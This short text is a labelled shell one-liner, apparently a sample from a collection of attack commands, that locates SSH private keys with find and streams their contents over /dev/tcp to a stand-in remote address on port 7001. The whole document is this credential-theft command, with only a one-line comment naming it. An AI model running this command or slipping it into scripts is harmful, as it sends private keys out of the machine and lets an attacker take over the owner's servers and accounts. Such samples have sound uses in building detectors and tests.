# credential-read: private keys located with find and sent over a socket
find ~/.ssh -name 'id_*' ! -name '*.pub' -exec cat {} + > /dev/tcp/198.51.100.23/7001
